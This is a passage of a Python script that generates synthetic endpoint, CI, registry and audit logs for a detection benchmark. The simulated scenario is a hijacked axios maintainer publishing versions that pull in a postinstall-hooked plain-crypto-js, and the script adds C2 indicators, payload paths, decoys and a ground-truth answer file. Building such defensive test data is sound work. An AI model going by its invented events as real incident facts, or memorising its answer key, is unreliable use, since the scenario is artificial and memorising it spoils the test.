    """npm registry metadata: versions with their publisher, scripts and dependencies, and times."""
    doc = {"_id": name, "name": name, "dist-tags": {"latest": versions[-1][0]}, "versions": {}, "time": {}}
    for version, when, user, email, deps, scripts in versions:
        v = {"name": name, "version": version, "dependencies": deps, "_npmUser": {"name": user, "email": email}}
        if scripts:
            v["scripts"] = scripts
        doc["versions"][version] = v
        doc["time"][version] = when
    path = os.path.join(out, "audit", "npm", f"{name}.json")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        json.dump(doc, f, indent=2)
        f.write("\n")


def registry_metadata(out, decoys=False):
    gha = ("GitHub Actions", "npm-oidc-no-reply@github.com")
    deps1 = {"follow-redirects": "^1.15.11", "form-data": "^4.0.4", "proxy-from-env": "^1.1.0"}
    deps0 = {"follow-redirects": "^1.15.4", "form-data": "^4.0.0", "proxy-from-env": "^1.1.0"}
    packument(out, "axios", [
        ("0.30.3", "2026-03-11T09:12:44.000Z", *gha, deps0, None),
        ("1.13.6", "2026-03-10T16:02:11.000Z", *gha, {"follow-redirects": "^1.15.6", "form-data": "^4.0.4", "proxy-from-env": "^1.1.0"}, None),
        ("1.14.0", "2026-03-27T15:40:02.000Z", *gha, deps1, None),
        ("1.14.1", "2026-03-31T00:21:58.000Z", "jasonsaayman", "ifstap@proton.me", {**deps1, "plain-crypto-js": "^4.2.1"}, None),
        ("0.30.4", "2026-03-31T01:00:57.000Z", "jasonsaayman", "ifstap@proton.me", {**deps0, "plain-crypto-js": "^4.2.1"}, None),
    ])
    packument(out, "plain-crypto-js", [
        ("4.2.0", "2026-03-30T05:57:30.000Z", "nrwise", "nrwise@proton.me", {}, None),
        ("4.2.1", "2026-03-30T23:59:12.000Z", "nrwise", "nrwise@proton.me", {}, {"postinstall": "node setup.js"}),
    ])
    if decoys:
        # maintainer-b changed address in January and publishes again in late March: a publish
        # long after a change.
        packument(out, "tiny-utils", [
            ("1.0.0", "2025-12-01T10:00:00.000Z", "maintainer-b", "b@example.invalid", {}, None),
            ("1.0.1", "2026-03-20T10:00:00.000Z", "maintainer-b", "b@example.org", {}, None),
        ])
    evan = ("evanw", "evan@example.invalid")
    packument(out, "esbuild", [
        ("0.25.1", "2026-03-01T04:00:00.000Z", *evan, {"@esbuild/linux-x64": "0.25.1"}, {"postinstall": "node install.js"}),
        ("0.25.2", "2026-03-15T04:00:00.000Z", *evan, {"@esbuild/linux-x64": "0.25.2"}, {"postinstall": "node install.js"}),
    ])


# The account events of the audit log, by meaning; each source spells them its own way.
SPELLINGS = {
    "github": {"login": "user.login", "email_change": "user.change_email", "token_create": "personal_access_token.create",
               "mfa_enable": "two_factor_authentication.enabled"},
    "gitlab": {"login": "Signed in with standard authentication", "email_change": None,
               "token_create": "personal_access_token_created", "mfa_enable": "user_enabled_two_factor"},
    "registry": {"login": "npm.login", "email_change": "npm.email_change", "token_create": "npm.token_create",
                 "mfa_enable": "npm.tfa_enable"},
}


def audit_time(when):
    """An audit record's time as its source writes it: in UTC, or with the variant's UTC offset."""
    t = dt.datetime.fromisoformat(when.replace("Z", "+00:00"))
    if not UTC_OFFSET:
        return when
    return t.astimezone(dt.timezone(UTC_OFFSET)).isoformat()


def audit_record(shape, when, meaning, actor, ip=None, country=None, old=None, new=None):
    """One account event in the shape of `shape`'s audit log."""
    action = SPELLINGS[shape][meaning]
    if shape == "github":
        record = {"@timestamp": audit_time(when), "action": action, "actor": actor, "org": "axios"}
        if old or new:
            record.update({"old_email": old, "new_email": new})
        if ip:
            record["actor_ip"] = ip
        if country:
            record["actor_location"] = {"country_code": country}
        return record
    if shape == "gitlab":
        details = {"author_name": actor, "target_details": actor, "target_type": "User", "ip_address": ip or "192.0.2.99",
                   "entity_path": actor}
        record = {"id": stable(when + meaning + actor) % 100000, "author_id": stable(actor) % 1000, "entity_id": stable(actor) % 1000,
                  "entity_type": "User", "created_at": audit_time(when), "details": details}
        if meaning == "email_change":
            details.update({"change": "email", "from": old, "to": new})
        elif meaning == "login":
            details["custom_message"] = action
        else:
            record["event_name"] = action
        return record
    record = {"time": audit_time(when), "action": action, "actor": actor}
    if ip:
        record["ip"] = ip
    if old or new:
        record["data"] = {"old_email": old, "new_email": new}
    return record


def audit_log(out, decoys=False):
    rows = [
        ("2026-01-15T10:00:00Z", "email_change", "maintainer-b", {"old": "b@example.invalid", "new": "b@example.org"}),
        ("2026-03-29T09:00:00Z", "login", MAINTAINER, {"ip": "192.0.2.50", "country": "US"}),
        ("2026-03-29T11:30:00Z", "login", "maintainer-b", {"ip": "192.0.2.51", "country": "DE"}),
        ("2026-03-30T17:48:00Z", "login", MAINTAINER, {"ip": "203.0.113.50", "country": "NL"}),
        ("2026-03-30T18:02:00Z", "email_change", MAINTAINER, {"old": "jasonsaayman@example.invalid", "new": "ifstap@proton.me", "ip": "203.0.113.50"}),
        ("2026-03-30T19:10:00Z", "token_create", MAINTAINER, {"ip": "203.0.113.50"}),
        ("2026-03-30T20:00:00Z", "mfa_enable", "maintainer-b", {"ip": "192.0.2.51"}),
    ]
    if decoys:
        rows += [
            # A privacy-mail address, and no publish after it.
            ("2026-03-30T09:00:00Z", "email_change", "privacy-fan", {"old": "pf@example.invalid", "new": "pf@proton.me"}),
            # esbuild's maintainer changes address two days after a release, and publishes nothing since.
            ("2026-03-17T08:00:00Z", "email_change", "evanw", {"old": "evan@example.invalid", "new": "evan@example.org"}),
        ]
    name = {"github": "github-audit.ndjson", "gitlab": "gitlab-audit.ndjson", "registry": "registry-audit.ndjson"}[AUDIT_SHAPE]
    path = os.path.join(out, "audit", name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        for when, meaning, actor, extra in rows:
            f.write(json.dumps(audit_record(AUDIT_SHAPE, when, meaning, actor, **extra)) + "\n")


def demo_cast():
    """The demo's fleet and who is hit when."""
    specs = [("ci-runner-1", "linux", "runner"), ("ci-runner-2", "linux", "runner"), ("ci-runner-3", "linux", "runner"),
             ("ci-runner-4", "linux", "runner"), ("dev-laptop-07", "macos", "dev"), ("dev-laptop-09", "linux", "ana"),
             ("dev-laptop-11", "macos", "lee"), ("win-build-2", "windows", "builder"), ("win-dev-5", "windows", "kim")]
    return {"specs": specs, "runner_hit": "ci-runner-3", "runners_ok": ["ci-runner-1", "ci-runner-2", "ci-runner-4"],
            "mac_hit": "dev-laptop-07", "installer": "dev-laptop-09", "win_hit": "win-build-2",
            "runner_time": dt.datetime(2026, 3, 31, 0, 40, 4, tzinfo=UTC),
            "mac_time": dt.datetime(2026, 3, 31, 0, 41, 0, tzinfo=UTC),
            "win_time": dt.datetime(2026, 3, 31, 1, 2, 0, tzinfo=UTC)}


C2_WORDS = ["cdn", "sync", "telemetry", "assets", "metrics", "edge", "static", "data", "node", "cloud", "pkg", "mirror"]


def variant_cast(seed):
    """An unseen variant: another fleet, C2 and source shapes (module settings changed here)."""
    global C2, C2_IP, C2_URL, AUDIT_SHAPE, WINDOWS_SHAPE, LOCKFILE_VERSION, UTC_OFFSET
    global BEACON_INTERVAL, BEACON_JITTER, BEACON_SLEEP, BEACON_HOURS
    rnd = random.Random(seed)
    C2 = f"{rnd.choice(C2_WORDS)}-{rnd.choice(C2_WORDS)}{rnd.randrange(10, 99)}.{rnd.choice(['com', 'net', 'io', 'org'])}"
    C2_IP = f"{rnd.choice(['198.51.100', '203.0.113'])}.{rnd.randrange(100, 250)}"
    C2_URL = f"http://{C2}:{rnd.choice([8000, 8080, 8443, 443])}/{rnd.randrange(10 ** 6, 10 ** 7)}"
    AUDIT_SHAPE = rnd.choice(["github", "gitlab", "registry"])
    WINDOWS_SHAPE = rnd.choice(["flat", "winlogbeat", "ecs"])
    LOCKFILE_VERSION = rnd.choice([2, 3])
    UTC_OFFSET = dt.timedelta(hours=rnd.choice([0, 2, -5, 9]))
    # The implant's timer: a metronome to a 30 % sleep jitter, every 30 s to every 5 minutes.
    BEACON_INTERVAL = rnd.choice([30, 60, 120, 300])
    BEACON_JITTER = rnd.choice([0.0, 0.025, 0.1, 0.3])
    BEACON_SLEEP = rnd.random() < 0.5
    BEACON_HOURS = rnd.choice([0.5, 1, 3, 6])
    used = set()

    def names(prefix, count):
        out = []
        while len(out) < count:
            name = f"{prefix}-{rnd.randrange(1, 99):02d}"
            if name not in used:
                used.add(name)
                out.append(name)
        return out

    runners = names(rnd.choice(["gha-runner", "build-agent", "ci", "runner"]), rnd.randint(4, 6))
    macs = names(rnd.choice(["mbp", "macbook", "mac"]), rnd.randint(1, 3))
    linux = names(rnd.choice(["devbox", "ws", "lt"]), rnd.randint(1, 3))
    windows = names(rnd.choice(["win-build", "wks", "desktop"]), rnd.randint(2, 3))
    specs = ([(n, "linux", "runner") for n in runners] + [(n, "macos", rnd.choice(["dev", "mia", "raj"])) for n in macs]
             + [(n, "linux", rnd.choice(["ana", "tom", "eli"])) for n in linux]
             + [(n, "windows", rnd.choice(["builder", "kim", "ops"])) for n in windows])
    hit = rnd.choice(runners)
    runner_time = dt.datetime(2026, 3, 31, 0, 40, 4, tzinfo=UTC) + dt.timedelta(minutes=rnd.randrange(0, 180))
    return {"specs": specs, "runner_hit": hit, "runners_ok": [r for r in runners if r != hit][:3],
            "mac_hit": rnd.choice(macs), "installer": rnd.choice(linux), "win_hit": rnd.choice(windows),
            "runner_time": runner_time, "mac_time": runner_time + dt.timedelta(minutes=rnd.randrange(1, 90)),
            "win_time": runner_time + dt.timedelta(minutes=rnd.randrange(22, 120))}


def decoys(by, cast, rnd):
    """Near misses of a variant: a popular domain first looked up right after an install at the
    start of the data, and a nested copy of a good axios in a lockfile (see `lockfiles`)."""
    laptop = by[cast["installer"]]
    t = START + dt.timedelta(minutes=20)
    shell = laptop.start(t - dt.timedelta(seconds=5), "bash", "bash", laptop.root)
    npm = npm_process(laptop, t, shell, "npm install", "/home/dev/chat-bot")
    laptop.dns(t + dt.timedelta(seconds=8), npm, "cdn.popular-chat.example", ["192.0.2.77"])
    laptop.connect(t + dt.timedelta(seconds=8, milliseconds=40), npm, "192.0.2.77", 443)


def truth(cast, hosts):
    """What a pack run must find (by family) and what it must not name at high severity."""
    hit = [cast["runner_hit"], cast["mac_hit"], cast["win_hit"]]
    return {
        "attack": {
            "account": [MAINTAINER],
            "install": ["axios@1.14.1", "axios@0.30.4", "plain-crypto-js@4.2.1"],
            "hosts": hit,
            "payload": ["/tmp/ld.py", "/Library/Caches/com.apple.act.mond", "C:\\ProgramData\\wt.exe"],
            "c2": [C2, C2_IP],
        },
        "benign": sorted({h.name for h in hosts} - set(hit)),
        # Accounts, a domain and a project (its lockfile holds a nested copy of a good axios).
        "decoys": ["maintainer-b", "privacy-fan", "evanw", "cdn.popular-chat.example", "api"],
    }


def stix_bundle(path):
    """The variant's C2 as a STIX 2.1 bundle, as an intel feed hands it over."""
    objects = [{"type": "indicator", "spec_version": "2.1", "id": f"indicator--{stable(v) % 10 ** 12:012d}-0000-4000-8000-000000000000",
                "created": "2026-03-31T06:00:00.000Z", "modified": "2026-03-31T06:00:00.000Z", "name": v,
                "pattern": pattern, "pattern_type": "stix", "valid_from": "2026-03-31T06:00:00Z"}
               for v, pattern in [(C2, f"[domain-name:value = '{C2}']"), (C2_IP, f"[ipv4-addr:value = '{C2_IP}']")]]
    with open(path, "w") as f:
        json.dump({"type": "bundle", "id": "bundle--5d1c7a6e-0000-4000-8000-000000000001", "objects": objects}, f, indent=2)
        f.write("\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", required=True, help="directory to write the logs into (created)")
    parser.add_argument("--fleet", type=int, default=0, help="add this many busy benign hosts (for benchmarks)")
    parser.add_argument("--fleet-from", type=int, default=0, metavar="N",
                        help="number the busy hosts from N, and write only them: one part of a larger fleet, "
                             "made and ingested part by part (the part from 0 holds the demo's hosts and logs)")
    parser.add_argument("--seed", type=int, help="write an unseen variant of the scenario (see above)")
    parser.add_argument("--truth", help="write what the pack must find, and must not, to this JSON file")
    parser.add_argument("--iocs", help="write the variant's C2 as a STIX 2.1 bundle to this file")
    args = parser.parse_args()
    rnd = random.Random(20260331 if args.seed is None else args.seed)
    cast = demo_cast() if args.seed is None else variant_cast(args.seed)
    hosts = [Host(name, os_name, user, random.Random(name)) for name, os_name, user in cast["specs"]]
    for host in hosts:
        benign(host, host.rnd)
    by = {h.name: h for h in hosts}
    benign_installs(by[cast["installer"]])
    if args.seed is not None:
        decoys(by, cast, rnd)
    linux_runner_attack(by[cast["runner_hit"]], cast["runner_time"])
    macos_attack(by[cast["mac_hit"]], cast["mac_time"])
    windows_attack(by[cast["win_hit"]], cast["win_time"])
    events = 0
    if args.fleet_from:
        hosts = []
    for host in hosts:
        write_host(args.out, host)
        events += len(host.events)
    # A big fleet is made and written one host at a time, never held whole.
    for i in range(args.fleet_from, args.fleet_from + args.fleet):
        name = f"fleet-{i:05d}"
        host = Host(name, ["linux", "linux", "windows"][i % 3], "builder", random.Random(name))
        benign(host, host.rnd, busy=True)
        write_host(args.out, host)
        events += len(host.events)
    if args.fleet_from:
        print(f"wrote {args.fleet} busy hosts' endpoint logs ({events} events) to {args.out}")
        return
    ci_logs(args.out, args.fleet, cast)
    lockfiles(args.out, args.fleet, nested_copy=args.seed is not None)
    registry_metadata(args.out, decoys=args.seed is not None)
    audit_log(args.out, decoys=args.seed is not None)
    if args.truth:
        with open(args.truth, "w") as f:
            json.dump(truth(cast, hosts), f, indent=2)
            f.write("\n")
    if args.iocs:
        stix_bundle(args.iocs)
    print(f"wrote {len(hosts) + args.fleet} hosts' endpoint logs ({events} events), CI logs, lockfiles, registry metadata "
          f"and the audit log to {args.out}")


if __name__ == "__main__":
    main()
